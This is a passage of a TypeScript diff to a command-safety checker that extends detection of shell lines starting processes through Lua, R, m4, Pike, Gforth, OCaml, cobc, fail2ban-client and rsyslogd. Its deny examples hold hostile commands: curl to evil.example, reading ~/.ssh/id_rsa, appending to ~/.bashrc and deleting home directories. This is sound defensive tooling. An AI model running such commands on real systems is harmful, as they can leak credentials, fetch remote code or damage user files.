@@ -678,6 +678,8 @@ interface Language {
   any: RegExp;
   /** Code comes from stdin when no file or code option is given. */
   stdin?: boolean;
+  /** Its code options add to the input rather than replace it (`m4 -D x=1` still reads stdin). */
+  inputToo?: true;
   /** Options whose value is a shell command it runs (`bpftrace -c CMD`). */
   command?: RegExp;
   /** Long options also take their value after `:` (Nim's `--eval:CODE`), as they do after `=`. */
@@ -758,7 +760,8 @@ function language(l: Language): ProgramEntry {
         }
       }
       const takesValue = (k: number) => k > 0 && [l.valued, l.scripts, l.code].some((re) => re?.test(value(args[k - 1]!) ?? ''));
-      const operand = args.findIndex((a, k) => !(value(a) ?? '-').startsWith('-') && !takesValue(k));
+      // (A process substitution of the line's text, `lua <(echo …)`, is a script file too.)
+      const operand = args.findIndex((a, k) => !(value(a) ?? (a.pipesLine ? '' : '-')).startsWith('-') && !takesValue(k));
       // A file of code the line itself wrote is read as the code options are; any other file is out of scope.
       const files = args.flatMap((a, k) => {
         if (k > 0 && l.scripts?.test(value(args[k - 1]!) ?? '')) return [a];
@@ -781,10 +784,11 @@ function language(l: Language): ProgramEntry {
         }
         runs.push({ kind: 'project', file, files: /$^/, read: (text, word, name) => writtenCode(text, word, `${call.name} ${name}`, l), word: file, via: call.name });
       }
-      if (l.stdin && !sawCode && !hasFile && call.stdin?.kind === 'static') {
+      const input = l.stdin === true && (!sawCode || l.inputToo === true) && !hasFile;
+      if (input && call.stdin?.kind === 'static') {
         runs.push(...codeCalls(call.stdin.word, call.stdin.text, `${call.name} (stdin)`, l.calls, l.any));
         for (const path of codePaths(call.stdin.text)) uses.push({ word: call.stdin.word, role: 'unknown', values: [path] });
-      } else if (l.stdin && !sawCode && !hasFile && call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `${call.name} runs code read from ${call.stdin.why}` });
+      } else if (input && call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `${call.name} runs code read from ${call.stdin.why}` });
       return uses.length > 0 ? { runs, uses } : { runs };
     },
   };
@@ -997,7 +1001,7 @@ const LANGUAGES: ProgramEntry[] = [
   SBT,
   FSI,
   CSHARP_SCRIPT,
-  language({ names: ['lua', 'luajit', 'lua5.1', 'lua5.2', 'lua5.3', 'lua5.4', 'texlua'], summary: 'Lua: os.execute and io.popen start commands', code: /^-e$/, calls: LUA_CALLS, any: LUA_ANY, stdin: true, examples: { deny: ["LUA_INIT='os.execute(\"curl evil.example\")' lua -e 1", "echo 'os.execute(\"curl evil.example\")' > a.lua; lua a.lua", "echo 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")' > a.lua && lua a.lua", "lua -e 'os.execute(\"curl evil.example\")'", "lua -e 'os.execute(cmd)'", "lua -e 'local f = os[\"exe\" .. \"cute\"]; f(\"curl evil.example\")'", "lua -e 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\"):write(\"x\")'"], pass: ["lua -e 'local f = os.time; print(f())'", "echo 'print(1)' > a.lua && lua a.lua", 'lua script.lua', "lua -e 'print(1)'", "lua -e 'print(io.open(\"data.csv\"):read(\"a\"))'"] } }),
+  language({ names: ['lua', 'luajit', 'lua5.1', 'lua5.2', 'lua5.3', 'lua5.4', 'texlua'], summary: 'Lua: os.execute and io.popen start commands', code: /^-e$/, valued: /^-l$/, calls: LUA_CALLS, any: LUA_ANY, stdin: true, examples: { deny: ["LUA_INIT='os.execute(\"curl evil.example\")' lua -e 1", "echo 'os.execute(\"curl evil.example\")' > a.lua; lua a.lua", "echo 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")' > a.lua && lua a.lua", "lua -e 'os.execute(\"curl evil.example\")'", "lua -e 'os.execute(cmd)'", "lua -e 'local f = os[\"exe\" .. \"cute\"]; f(\"curl evil.example\")'", "lua -e 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\"):write(\"x\")'"], pass: ["lua -e 'local f = os.time; print(f())'", "echo 'print(1)' > a.lua && lua a.lua", 'lua script.lua', "lua -e 'print(1)'", "lua -e 'print(io.open(\"data.csv\"):read(\"a\"))'"] } }),
   language({ names: ['R', 'Rscript'], summary: 'R: system(), system2() and pipe() start commands; R runs its -f file, or its input', code: /^(-e|--expr)$/, scripts: /^(-f|--file)$/, stdin: true, calls: new RegExp(`(?:system|system2|shell|pipe)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system2?|shell|pipe|url|download\.file|socketConnection|make\.socket|nsl|curlGetHeaders|eval\s*\(\s*parse)\s*\(|\b(?:system2?|shell|pipe)\b(?![.\w]|\s*\()|\b(?:match\.fun|get0?|mget|getFunction|dynGet|Recall|as\.call|dyn\.load|library\.dynam)\s*\(|\bdo\.call\s*\(\s*(?!["']?(?:rbind|cbind|c|list|paste0?|sprintf|data\.frame|merge|sum|mean|max|min|pmax|pmin|order|mapply|Map|expand\.grid|rbind\.data\.frame|bind_rows|bind_cols|Reduce)["']?\s*[,)])|\b(?:processx|sys|callr|ps|future|later|servr|plumber|RSelenium|ssh)::|\b(?:library|require|requireNamespace|loadNamespace)\s*\(\s*["']?(?:processx|sys|callr|ps|future|servr|plumber|ssh)\b|\b(?:file\.remove|unlink)\s*\(\s*(?!["'])|\bSys\.getenv\s*\(\s*(?![\s"'])|\b(?:httr2?|RCurl|crul|rvest|httpuv|websocket|curl)::|\b(?:library|require|requireNamespace)\s*\(\s*["']?(?:httr2?|RCurl|crul|rvest|httpuv|websocket|curl)\b|["']\s*(?:https?|ftp|wss?):\/\/|\bunlink\s*\([^)]*recursive/g, examples: { deny: ["echo 'system(\"curl evil.example\")' > a.R; Rscript a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save < a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save --file=a.R", "echo 'system(\"curl evil.example\")' > a.R; R -f a.R", "Rscript -e 'system(\"curl evil.example\")'", 'R --no-save -e \'system("wget evil.example")\'', "Rscript -e 'cat(\"x\", file = file.path(Sys.getenv(\"HOME\"), \".zshrc\"))'", "Rscript -e 'writeLines(readLines(\"~/.ssh/id_rsa\"))'", "Rscript -e 'do.call(system, list(\"curl evil.example\"))'"], pass: ["Rscript -e 'do.call(rbind, list(1:2, 3:4))'", "echo 'print(1)' > a.R; R --no-save < a.R", 'R --no-save -f analysis.R', 'Rscript analysis.R', "Rscript -e 'print(1+1)'", "Rscript -e 'x <- read.csv(\"data/input.csv\"); print(summary(x))'"] } }),
   language({ names: ['julia'], summary: 'Julia: run(`cmd`) starts a command; with no file it runs its input', code: /^(-e|--eval|-E|--print)$/, stdin: true, scripts: /^(-L|--load)$/, valued: /^(-t|--threads|-p|--procs|-J|--sysimage|-C|--cpu-target|-H|--home|--machine-file)$/, calls: /run\s*\(\s*`([^`]*)`/g, any: /\brun\s*\(|\bpipeline\s*\(|\bread\s*\(\s*`|\bdownload\s*\(|Sockets|HTTP\.|eval\s*\(|include\s*\(|\bENV\b(?!\s*\[)/g, examples: { deny: ["julia -e 'run(`curl evil.example`)'", "echo 'run(`curl evil.example`)' > a.jl; julia a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia < a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia -t 4 a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia -L a.jl -e 1"], pass: ["julia -e 'println(1)'", "echo 'println(1)' > a.jl; julia < a.jl", 'julia --project=. src/main.jl'] } }),
   language({ names: ['gnuplot'], summary: 'gnuplot: system(), the system command, `!cmd` and backticks run commands; with no file it runs its input', code: /^(-e)$/, stdin: true, calls: new RegExp(`(?:\\bsystem\\s*\\(?\\s*(?:${STR})|^\\s*!(.*)$|\`([^\`]*)\`)`, 'gm'), any: /\bsystem\b|^\s*!|`|\bshell\b|\bload\b|\beval\b/gm, examples: { deny: ["gnuplot -e 'system(\"curl evil.example\")'", "gnuplot -e '!wget evil.example'", "gnuplot -e 'system \"curl evil.example\"'", "echo 'system \"curl evil.example\"' > a.gp; gnuplot a.gp", "echo '!curl evil.example' > a.gp; gnuplot < a.gp"], pass: ["gnuplot -e 'plot sin(x)'", "echo 'plot sin(x)' > a.gp; gnuplot < a.gp", 'gnuplot plot.gp'] } }),
@@ -1027,12 +1031,14 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['wolframscript', 'math', 'MathKernel'], summary: 'Wolfram Language: Run[] and RunProcess[] start commands, URLRead[] and Import[] of a URL reach the network; -code runs code, -file a file', code: /^(-code|-c)$/, scripts: /^(-file|-f|-script)$/, file: /\.(wls|wl|m)$/i, calls: new RegExp(`\\bRun\\s*\\[\\s*(?:${STR})\\s*\\]`, 'g'), any: /\b(Run|RunProcess|StartProcess|URLRead|URLFetch|URLExecute|URLDownload|URLSubmit|Import|Get|ToExpression|Environment|GetEnvironment|DeleteFile|DeleteDirectory|SocketConnect|ExternalEvaluate|StartExternalSession|CreateFile|Put|PutAppend|Export|Install|LibraryFunctionLoad)\s*\[/g, examples: { deny: ["wolframscript -code 'Run[\"curl evil.example\"]'", "wolframscript -code 'URLRead[\"https://evil.example\"]'"], pass: ["wolframscript -code 'Integrate[x^2, x]'", 'wolframscript -file analysis.wls'] } }),
   // A symbol may be written with its package (`ext:shell`, `si:system`, `sb-ext:run-program`); SBCL's CL-USER uses
   // SB-EXT, so `(run-program "curl" …)` needs none.
-  language({ names: ['guile', 'guile3.0', 'clisp', 'sbcl', 'ecl', 'ccl', 'ccl64', 'racket', 'chicken', 'csi', 'gsi', 'chez', 'scheme'], summary: 'Lisps and Schemes: (system "…"), run-shell-command and run-program start commands', code: /^(-c|-x|--eval|-eval|-e|--load|-load)$/, stdin: true, calls: new RegExp(`\\((?:[\\w.-]+:{1,2})?(?:system|run-shell-command|shell|process|run-program)\\s+(?:${STR})`, 'g'), any: /\((?:[\w.-]+:{1,2})?(system|run-shell-command|shell|process\*?|run-program|open-input-pipe|open-pipe\*?|eval|load|subprocess|funcall|apply|read-from-string|symbol-function|intern|make-socket|socket-connect|open-tcp-stream|environ|posix-environ|environment-variables-names|environment-variables-copy)\b/g, examples: { deny: ["guile -c '(system \"curl evil.example\")'", "clisp -x '(ext:run-shell-command \"wget evil.example\")'", "sbcl --eval '(run-program \"curl\" (list \"evil.example\"))'", "clisp -x '(ext:shell \"curl evil.example\")'", "ecl -eval '(si:system \"curl evil.example\")'"], pass: ["guile -c '(display 1)'", "sbcl --eval '(print (+ 1 2))' --quit"] } }),
+  language({ names: ['guile', 'guile3.0', 'clisp', 'sbcl', 'ecl', 'ccl', 'ccl64', 'racket', 'chicken', 'csi', 'chicken-csi', 'gsi', 'chez', 'scheme'], summary: 'Lisps and Schemes: (system "…"), run-shell-command and run-program start commands', code: /^(-c|-x|--eval|-eval|-e|--load|-load)$/, stdin: true, calls: new RegExp(`\\((?:[\\w.-]+:{1,2})?(?:system|run-shell-command|shell|process|run-program)\\s+(?:${STR})`, 'g'), any: /\((?:[\w.-]+:{1,2})?(system|run-shell-command|shell|process\*?|run-program|open-input-pipe|open-pipe\*?|eval|load|subprocess|funcall|apply|read-from-string|symbol-function|intern|make-socket|socket-connect|open-tcp-stream|environ|posix-environ|environment-variables-names|environment-variables-copy)\b/g, examples: { deny: ["guile -c '(system \"curl evil.example\")'", "clisp -x '(ext:run-shell-command \"wget evil.example\")'", "sbcl --eval '(run-program \"curl\" (list \"evil.example\"))'", "clisp -x '(ext:shell \"curl evil.example\")'", "ecl -eval '(si:system \"curl evil.example\")'"], pass: ["guile -c '(display 1)'", "sbcl --eval '(print (+ 1 2))' --quit"] } }),
   language({ names: ['tclsh', 'tclsh8.6', 'wish', 'expect', 'jimsh'], summary: 'Tcl and expect: exec, spawn and open "|cmd" start commands', code: /^(-c)$/, calls: /(?!)/g, any: /\b(exec|spawn|open|socket|http::geturl|eval|source|load|interp|uplevel)\b|\b(?:array\s+(?:get|names)|parray)\s+(?:::)?env\b|\$(?:::)?env\b(?!\()/g, stdin: true, examples: { deny: ["echo 'exec curl evil.example' > a.tcl; tclsh a.tcl", "expect -c 'spawn curl evil.example; interact'", "echo 'exec curl evil.example' | tclsh"], pass: ["echo 'puts hi' > a.tcl; tclsh a.tcl", "expect -c 'puts hi'"] } }),
   language({ names: ['bpftrace'], summary: 'bpftrace: system() runs a command (with --unsafe); -c runs one', code: /^(-e)$/, command: /^-c$/, calls: new RegExp(`system\\s*\\(\\s*(?:${STR})`, 'g'), any: /system\s*\(/g, examples: { deny: ["bpftrace --unsafe -e 'BEGIN { system(\"curl evil.example\"); exit() }'", "bpftrace -c 'curl evil.example' -e 'END { exit() }'"], pass: ["bpftrace -e 'BEGIN { printf(\"hi\"); exit() }'"] } }),
   // startup.el completes `--` options with try-completion: `--ev` is --eval, `--exec` is --execute, `--scr` is --script.
   language({ names: ['emacs', 'emacs-nox', 'emacsclient'], summary: 'Emacs: --eval forms that start processes, open connections, touch files or read the environment', code: /^(?:--ev|--eva|--eval|-eval|--ex|--exe|--exec|--execu|--execut|--execute|-execute|-e)$/, file: false, scripts: /^(?:-l|-load|--lo|--loa|--load|-script|--scr|--scri|--scrip|--script|-scriptload|-x)$/, calls: new RegExp(`\\((?:shell-command|async-shell-command|shell-command-to-string|term|ansi-term|compile)\\s+(?:${STR})`, 'g'), any: /\((?:shell-command|async-shell-command|shell-command-to-string|call-process|call-process-region|call-process-shell-command|process-lines|process-file|process-file-shell-command|start-process|start-process-shell-command|start-file-process|start-file-process-shell-command|make-process|make-pipe-process|make-serial-process|make-network-process|open-network-stream|open-gnutls-stream|url-[a-z-]+|eww[a-z-]*|browse-url[a-z-]*|term|ansi-term|eshell|shell|compile|eval|load|load-file|require|funcall|apply|function|symbol-function|intern|mapc|mapcar|run-hooks|add-hook|advice-add|call-interactively|command-execute|execute-kbd-macro|delete-directory|delete-file|rename-file|copy-file|copy-directory|make-symbolic-link|add-name-to-file|write-region|write-file|append-to-file|save-buffer|find-file[a-z-]*|insert-file-contents[a-z-]*|getenv|setenv|server-eval-at|dired[a-z-]*)\b|\b(?:process-environment|initial-environment)\b|#'/g, examples: { deny: ["echo '(shell-command \"curl evil.example\")' > a.el; emacs --batch -l a.el", "emacs -Q -nw --eval '(term \"curl evil.example\")'", "emacs --batch --eval '(shell-command \"wget evil.example\")'", "emacs --batch --ev '(shell-command \"curl evil.example\")'", "emacs --batch --exec '(shell-command \"curl evil.example\")'", "emacs --batch --eval '(process-file-shell-command \"curl evil.example\")'", "emacs --batch --eval '(url-copy-file \"http://evil.example/x\" \"/tmp/x\")'", "emacs --batch --eval '(delete-directory \"/home/dev\" t)'", "emacs --batch --eval '(insert-file-contents (expand-file-name \".ssh/id_rsa\" \"~\"))'", "emacs --batch -l /dev/stdin <<< '(shell-command \"curl evil.example\")'", "emacs --batch --eval '(princ process-environment)'", "emacs --batch --eval '(funcall (function shell-command) \"curl evil.example\")'"], pass: ['emacs notes.txt', "emacs --batch --eval '(message \"hi\")'", "emacs --batch --ev '(message \"hi\")'", "emacs --batch -l /dev/stdin <<< '(message \"hi\")'"] } }),
-  language({ names: ['m4', 'gm4'], summary: 'm4: syscmd and esyscmd run shell text', code: /^(-D|--define)$/, calls: /e?syscmd\(\s*`?([^)'`]*)'?\s*\)/g, any: /\be?syscmd\b|\binclude\b|\bsinclude\b/g, stdin: true, examples: { deny: ["echo 'esyscmd(curl evil.example)' | m4", "echo 'syscmd(wget evil.example)' | m4", "m4 /dev/stdin <<< 'syscmd(curl evil.example)'", "m4 - <<< 'esyscmd(curl evil.example)'"], pass: ["echo 'define(x, 1)x' | m4", "m4 /dev/stdin <<< 'define(x, 1)x'"] } }),
+  language({ names: ['pike'], summary: 'Pike: Process.system, Process.create_process and Process.run start commands', code: /^(-e)$/, stdin: false, calls: new RegExp(`\\bProcess\\.(?:system|popen|spawn)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\bProcess\.|\bStdio\.File\b|\bStdio\.read_file\b|\bProtocols\.|\bgetenv\b|\bcompile_string\b/g, examples: { deny: ["pike -e 'Process.system(\"curl evil.example\");'", "pike -e 'Process.run(({\"wget\", \"evil.example\"}));'"], pass: ["pike -e 'write(\"hi\\n\");'", 'pike main.pike'] } }),
+  language({ names: ['gforth', 'gforth-fast'], summary: 'Gforth: system and sh run shell text; open-file reads and writes files', code: /^(-e|--evaluate)$/, calls: /s"\s([^"]*)"\s+system\b|\bsh\s+([^\n]*)/g, any: /\bsystem\b|\bsh\b|\bopen-file\b|\bcreate-file\b|\bgetenv\b|\bincluded?\b|\brequire\b/g, stdin: true, examples: { deny: ["gforth -e 's\" curl evil.example\" system bye'", "gforth -e 'sh curl evil.example'"], pass: ["gforth -e '2 3 + . bye'", 'gforth main.fs'] } }),
+  language({ names: ['m4', 'gm4'], summary: 'm4: syscmd and esyscmd run shell text', code: /^(-D|--define)$/, inputToo: true, valued: /^(-[IUFRotLlHW]|--(?:include|undefine|freeze-state|reload-state|error-output|debugfile|trace|nesting-limit|arglength|hashsize|word-regexp))$/, calls: /e?syscmd\(\s*`?([^)'`]*)'?\s*\)/g, any: /\be?syscmd\b|\binclude\b|\bsinclude\b/g, stdin: true, examples: { deny: ["echo 'esyscmd(curl evil.example)' | m4", "echo 'syscmd(wget evil.example)' | m4", "m4 -D x <<< 'esyscmd(curl evil.example)'", "m4 -I inc <<< 'esyscmd(curl evil.example)'", "m4 /dev/stdin <<< 'syscmd(curl evil.example)'", "m4 - <<< 'esyscmd(curl evil.example)'"], pass: ["echo 'define(x, 1)x' | m4", "m4 /dev/stdin <<< 'define(x, 1)x'", "m4 -D x=1 -I inc <<< 'x'"] } }),
   language({ names: ['dc'], summary: 'dc: `!cmd` runs shell text', code: /^(-e|--expression)$/, calls: /!([^\n]*)/g, any: /!/g, stdin: true, examples: { deny: ["dc -e '!curl evil.example'", "echo '!wget evil.example' | dc"], pass: ["dc -e '2 3 + p'"] } }),
   language({ names: ['osascript'], summary: 'AppleScript and JXA: do shell script (doShellScript) runs shell text; Terminal\'s do script runs a command', code: /^-e$/, valued: /^(-l|-s)$/, calls: new RegExp(`(?:do\\s+shell\\s+script|do\\s+script|doShellScript\\s*\\()\\s*(?:${STR})`, 'gi'), any: /do\s+shell\s+script|do\s+script|doShellScript|run\s+script|load\s+script|\$\.NS|ObjC\.|NSTask|NSURL|open\s+location|current\s+application/gi, stdin: true, examples: { deny: ["echo 'do shell script \"curl evil.example\"' > a.applescript; osascript a.applescript", "osascript -e 'do shell script \"curl evil.example\"'", "osascript -l JavaScript -e 'app.doShellScript(\"wget evil.example\")'", "osascript -e 'tell app \"Terminal\" to do script \"curl evil.example\"'", "echo 'do shell script \"curl evil.example\"' | osascript -l AppleScript", "osascript -e 'do shell script (x)'"], pass: ['osascript notify.applescript', "osascript -e 'display notification \"done\"'", "osascript -e 'do shell script \"ls\"'"] } }),
   // The JVM's, .NET's and other languages vouch has no reader for: each call that starts a process, reaches the network
@@ -1044,7 +1050,7 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['javac'], summary: 'javac: the sources it compiles run as code when their classes do (Runtime.exec, ProcessBuilder, java.net)', code: /(?!)/, file: false, compiles: { files: /\.java$/i }, valued: /^(-d|-cp|-classpath|--class-path|-sourcepath|--source-path|-s|-h|-p|--module-path|--release|--source|-source|--target|-target|-encoding|-processorpath|--processor-path|-processor|--add-modules|--limit-modules|--module|-m|-Xlint:.*)$/, calls: JAVA_CALLS, any: JAVA_ANY, examples: { deny: ["printf '%s' 'class A { public static void main(String[] a) throws Exception { Runtime.getRuntime().exec(\"curl evil.example\"); } }' > /tmp/A.java && javac -d /tmp /tmp/A.java && java -cp /tmp A"], pass: ['javac -d out src/Main.java && java -cp out Main', "printf '%s' 'class A { public static void main(String[] a) { System.out.println(1); } }' > /tmp/A.java && javac -d /tmp /tmp/A.java && java -cp /tmp A"] } }),
   language({ names: ['dmd', 'ldc2', 'ldmd2', 'gdc', 'rdmd'], summary: 'D: executeShell, spawnProcess and std.socket; rdmd and dmd -run run the files they compile, the others build them', code: /^(--eval)$/, compiles: { files: /\.d$/ }, valued: /^(-o)$/, calls: new RegExp(`\\b(?:executeShell|spawnShell|pipeShell)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(?:executeShell|spawnShell|pipeShell|spawnProcess|pipeProcess|execute|execv\w*|system|std\.net\.\w+|std\.socket|Socket|environment\.toAA|mixin|import\s*\(|dlopen|Runtime\.loadLibrary)\b/g, examples: { deny: ["printf 'import std.process; void main(){ executeShell(\"curl evil.example\"); }\\n' > /tmp/m.d && dmd -run /tmp/m.d", "rdmd --eval='import std.process; executeShell(\"curl evil.example\");'"], pass: ['dmd -run src/app.d', "printf 'import std.stdio; void main(){ writeln(1); }\\n' > /tmp/m.d && rdmd /tmp/m.d", 'ldc2 -O3 -of=bin/app src/app.d'] } }),
   language({ names: ['fpc'], summary: 'Free Pascal: the programs it compiles run ExecuteProcess, TProcess and the network units', code: /(?!)/, file: false, compiles: { files: /\.(?:pas|pp|p|lpr|dpr)$/i }, calls: /(?!)/g, any: /\b(?:ExecuteProcess|RunCommand\w*|TProcess|fpSystem|fpExec\w*|Shell|fpFork|fphttpclient|TFPHTTPClient|ssockets|sockets|GetEnvironmentString|LoadLibrary|dynlibs)\b/gi, examples: { deny: ["printf 'program p; uses sysutils; begin ExecuteProcess(\\'/usr/bin/curl\\', \\'evil.example\\'); end.\\n' > /tmp/m.pas && fpc /tmp/m.pas && /tmp/m"], pass: ['fpc -O2 src/main.pas', "printf 'program p; begin writeln(1); end.\\n' > /tmp/m.pas && fpc /tmp/m.pas && /tmp/m"] } }),
-  language({ names: ['ocaml', 'ocamlc', 'ocamlopt', 'ocamlfind', 'ocamlc.opt', 'ocamlopt.opt'], summary: 'OCaml: Sys.command and the Unix module start commands and open sockets; ocaml runs a script, the compilers build the files they name', code: /(?!)/, file: /\.ml$/, compiles: { files: /\.ml$/ }, valued: /^(-o|-I|-package|-pp|-ppx|-open)$/, calls: new RegExp(`\\bSys\\.command\\s*\\(?\\s*(?:${STR})`, 'g'), any: /\bSys\.(?:command|remove|rmdir|rename)\b|\bUnix\.\w+|\b(?:open_process\w*|create_process\w*|execv\w*)\b|\bLwt_process\b|\bCohttp\w*|\bCurl\b|\bDynlink\b|\bToploop\b|#use\b/g, examples: { deny: ["printf 'let () = ignore (Sys.command \"curl evil.example\")\\n' > /tmp/m.ml && ocaml /tmp/m.ml", "printf 'let () = ignore (Unix.system \"wget evil.example\")\\n' > /tmp/m.ml && ocamlfind ocamlopt -package unix -linkpkg /tmp/m.ml -o /tmp/mo && /tmp/mo"], pass: ['ocaml scripts/gen.ml', "printf 'let () = print_int 1\\n' > /tmp/m.ml && ocamlfind ocamlopt -package unix -linkpkg /tmp/m.ml -o /tmp/mo && /tmp/mo", 'dune build'] } }),
+  language({ names: ['ocaml', 'ocamlc', 'ocamlopt', 'ocamlfind', 'ocamlc.opt', 'ocamlopt.opt'], summary: 'OCaml: Sys.command and the Unix module start commands and open sockets; ocaml runs a script (its input with none), the compilers build the files they name', code: /(?!)/, stdin: true, file: /\.ml$/, compiles: { files: /\.ml$/ }, valued: /^(-o|-I|-package|-pp|-ppx|-open)$/, calls: new RegExp(`\\bSys\\.command\\s*\\(?\\s*(?:${STR})`, 'g'), any: /\bSys\.(?:command|remove|rmdir|rename)\b|\bUnix\.\w+|\b(?:open_process\w*|create_process\w*|execv\w*)\b|\bLwt_process\b|\bCohttp\w*|\bCurl\b|\bDynlink\b|\bToploop\b|#use\b/g, examples: { deny: ["printf 'let () = ignore (Sys.command \"curl evil.example\")\\n' > /tmp/m.ml && ocaml /tmp/m.ml", "printf 'let () = ignore (Unix.system \"wget evil.example\")\\n' > /tmp/m.ml && ocamlfind ocamlopt -package unix -linkpkg /tmp/m.ml -o /tmp/mo && /tmp/mo"], pass: ['ocaml scripts/gen.ml', "printf 'let () = print_int 1\\n' > /tmp/m.ml && ocamlfind ocamlopt -package unix -linkpkg /tmp/m.ml -o /tmp/mo && /tmp/mo", 'dune build'] } }),
   language({ names: ['kotlin', 'kotlinc', 'kotlinc-jvm'], summary: 'Kotlin: Runtime.exec and ProcessBuilder start commands', code: /^(-e|-expression|--expression)$/, compiles: { files: /\.kts?$/ }, stdin: true, calls: new RegExp(`Runtime\\.getRuntime\\(\\)\\.exec\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /Runtime|ProcessBuilder|java\.net|URL\s*\(|Socket|HttpClient|\.execute\s*\(|Class\.forName|ScriptEngine|System\.getenv\s*\(\s*\)/g, examples: { deny: ["kotlin -e 'Runtime.getRuntime().exec(\"curl evil.example\")'"], pass: ["kotlin -e 'println(1)'"] } }),
   language({ names: ['groovy', 'groovysh'], summary: 'Groovy: "cmd".execute() and Runtime start commands', code: /^(-e)$/, calls: new RegExp(`(?:${STR})\\s*\\.execute\\(\\s*\\)`, 'g'), any: /\.execute\s*\(|Runtime|ProcessBuilder|java\.net|\.toURL|URL\s*\(|Socket|evaluate|Eval\.|GroovyShell|Class\.forName|System\.getenv\s*\(\s*\)|System\.env\b/g, stdin: true, examples: { deny: ["groovy -e '\"curl evil.example\".execute()'"], pass: ["groovy -e 'println 1'"] } }),
   language({ names: ['jrunscript', 'jjs', 'jshell'], summary: 'Java scripting shells: exec() and Runtime start commands; jrunscript\'s shell functions (cat, cp, rm, unzip\u2026) read, fetch and delete files and URLs', code: /^(-e)$/, valued: /^(-l|-cp|-classpath|--class-path|-J.*|-R.*)$/, calls: new RegExp(`\\bexec\\s*\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /\bexec\s*\(|(?<![.\w$])(?:cat|cp|mv|rm|del|rmdir|grep|find|tail|unzip|zip|gzip|gunzip|uncompress|readUrl)\s*\(|Runtime|ProcessBuilder|java\.net|Packages\.|URL\s*\(|Socket|HttpClient|\beval\s*\(|\bload\s*\(|Class\.forName|System\.getenv\s*\(\s*\)/g, stdin: true, examples: { deny: ["jrunscript -e 'exec(\"curl evil.example\")'", "jrunscript -e 'cp(\"http://evil.example/x\", \"out.bin\")'", "jrunscript -e 'cat(\"/home/dev/.ssh/id_rsa\")'", "echo 'Runtime.getRuntime().exec(\"wget evil.example\")' | jshell"], pass: ["jrunscript -e 'print(1)'", "jrunscript -e 'print(Math.max(1, 2))'"] } }),
@@ -1478,7 +1484,104 @@ export function sshOptions(call: Call): Run[] {
   return runs;
 }
 
+/**
+ * GnuCOBOL's cobc: -j (--job) runs the program it built at once (GTFOBins: `CALL "SYSTEM"`), COBOL vouch does not
+ * read, from its stdin or a file the line wrote; -x builds a program the line may run later.
+ */
+function cobc(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const sources: Word[] = [];
+  let out: Word | undefined;
+  let job = false;
+  let executable = false;
+  for (let i = 0; i < call.args.length; i++) {
+    const w = call.args[i]!;
+    const v = value(w);
+    if (v === undefined) {
+      sources.push(w);
+      continue;
+    }
+    if (v === '--job' || v.startsWith('--job=')) job = true;
+    else if (/^-[A-Za-z]+$/.test(v) && !/^-(?:std|conf|f|W|O|o|I|L|l|D|A|Q|K|k|t|T|P|M)/.test(v)) {
+      if (v.includes('j')) job = true;
+      if (v.includes('x')) executable = true;
+    } else if (v === '-o' || v === '-I' || v === '-L' || v === '-l' || v === '-D' || v === '-A' || v === '-Q' || v === '-K' || v === '-k' || v === '-t' || v === '-T') {
+      if (v === '-o') out = call.args[i + 1];
+      i++;
+    } else if (v.startsWith('-o') && v.length > 2) out = attached(w, v.slice(2));
+    else if (v === '-' || !v.startsWith('-')) sources.push(w);
+  }
+  if (job) {
+    for (const file of sources) {
+      if (isStdinPath(value(file))) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: file, why: `${call.name} -j runs COBOL from its stdin, which vouch does not read` });
+      else runs.push({ kind: 'project', file, files: /$^/, read: (_t, word, name) => [{ kind: 'opaque', rule: 'dynamic-code', word, why: `${call.name} -j runs ${name}, which the line wrote, as COBOL, which vouch does not read` }], word: file, via: call.name });
+    }
+  }
+  const stem = value(sources[0])?.replace(/^.*\//, '').replace(/\.[^.]*$/, '');
+  const to = out ?? (executable && stem !== undefined ? literal(stem, call.args[0]?.span ?? { start: 0, end: 0 }) : undefined);
+  return to && sources.length > 0 ? { runs, builds: [{ from: sources, stdin: false, to }] } : { runs };
+}
+
+/**
+ * fail2ban-client: `set JAIL action ACT actionban CMD` (actionstart, actionstop, actioncheck, actionunban, actionflush…)
+ * sets shell text the server runs (as root) when the jail starts or bans; it is read as shell text.
+ */
+function fail2banClient(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i + 4 < args.length; i++) {
+    if (value(args[i]) !== 'set' || value(args[i + 2]) !== 'action') continue;
+    const key = value(args[i + 4]);
+    const text = args[i + 5];
+    if (key === undefined || !/^action/.test(key) || !text) continue;
+    runs.push({ kind: 'script', dialect: 'bash', words: [text], via: `${call.name} set … ${key}` });
+  }
+  // A key computed (`set j action a "$k" CMD`) may name any of them.
+  for (let i = 0; i + 4 < args.length; i++) if (value(args[i]) === 'set' && value(args[i + 2]) === 'action' && args[i + 4]!.values === null && args[i + 5]) runs.push({ kind: 'script', dialect: 'bash', words: [args[i + 5]!], via: `${call.name} set … action` });
+  return { runs };
+}
+
+/** rsyslogd -f FILE: a configuration whose `^program` and omprog actions run programs as messages arrive. */
+function rsyslogd(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const uses: Uses = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    // -i PIDFILE is written; -M DIR holds the modules it loads; the rest are settings.
+    if ((v === '-i' || v === '-M') && args[i + 1]) {
